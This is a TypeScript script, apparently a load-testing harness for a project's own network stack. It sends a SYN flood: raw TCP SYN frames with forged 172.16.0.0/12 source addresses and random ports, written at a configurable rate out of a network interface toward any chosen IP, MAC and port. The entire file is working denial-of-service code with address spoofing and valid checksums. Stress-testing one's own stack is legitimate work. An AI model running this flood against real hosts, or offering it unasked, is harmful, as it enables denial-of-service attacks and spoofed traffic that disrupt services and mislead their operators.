/**
 * SYNs from forged addresses out of an interface: node syn-flood.ts '<Options as JSON>'. It reads how many per second from its
 * standard input, a number per line, and ends with that. For each line, and at its end, it prints how many it has sent so far.
 */
import { createInterface } from 'node:readline';
import { PacketSocket } from 'tap-tun';
import { SeededRandom } from '../../../src/common/index.ts';
import {
  addBytes,
  ETHERNET,
  ETHERTYPE,
  emitEthernet,
  emitIpv4,
  emitTcp,
  finishSum,
  type Ipv4Address,
  ipv4Address,
  ipv4PseudoHeaderSum,
  macAddress,
  PROTOCOL,
  TCP,
  TCP_FLAG,
  writeU16,
} from '../../../src/netstack/index.ts';

export interface SynFloodOptions {
  readonly interface: string;
  readonly fromMac: string;
  readonly toMac: string;
  readonly to: string;
  readonly port: number;
  readonly seed: number;
}

const FRAME = 60;
const SLOT = 64;
const TICK_MS = 5;
/** In one tick. */
const MOST = 2_000;
/** 172.16.0.0/12. */
const FORGED = 0xac10_0000;

const options = JSON.parse(process.argv[2] ?? '{}') as SynFloodOptions;
const socket = new PacketSocket({ name: options.interface, sendBufferBytes: 8 << 20 });
const random = new SeededRandom(options.seed);
const bytes = new Uint8Array(MOST * SLOT);
const index = new Uint32Array(2 * MOST);
const destination = ipv4Address(options.to);
const ip = ETHERNET.HEADER;
const tcp = ip + 20;

function syn(at: number): void {
  emitEthernet(bytes, at, macAddress(options.toMac), macAddress(options.fromMac), ETHERTYPE.IPV4);
  const source = (FORGED | (random.u32() & 0xf_ffff)) >>> 0;
  emitIpv4(bytes, at + ip, 40, 0, 0x4000, 64, PROTOCOL.TCP, source as Ipv4Address, destination);
  const port = 1024 + (random.u32() % 60_000);
  emitTcp(bytes, at + tcp, port, options.port, random.u32(), 0, 20, TCP_FLAG.SYN, 65_535);
  const sum = ipv4PseudoHeaderSum(bytes, at + ip, 20);
  writeU16(bytes, at + tcp + TCP.CHECKSUM, finishSum(addBytes(sum, bytes, at + tcp, 20)));
}

let perSecond = 0;
let lastMs = performance.now();
let due = 0;
setInterval(() => {
  const nowMs = performance.now();
  // What a busy machine kept this process from sending is not made up for at once.
  due = Math.min(MOST, due + ((nowMs - lastMs) * perSecond) / 1000);
  lastMs = nowMs;
  const count = Math.floor(due);
  if (count === 0) return;
  due -= count;
  for (let i = 0; i < count; i++) {
    bytes.fill(0, i * SLOT, i * SLOT + SLOT);
    syn(i * SLOT);
    index[2 * i] = i * SLOT;
    index[2 * i + 1] = FRAME;
  }
  socket.write(bytes, index, 0, count);
}, TICK_MS);

createInterface({ input: process.stdin })
  .on('line', (line) => {
    perSecond = Number(line);
    process.stdout.write(`${socket.counters().txFrames}\n`);
  })
  .on('close', () => {
    process.stdout.write(`${socket.counters().txFrames}\n`, () => process.exit(0));
  });
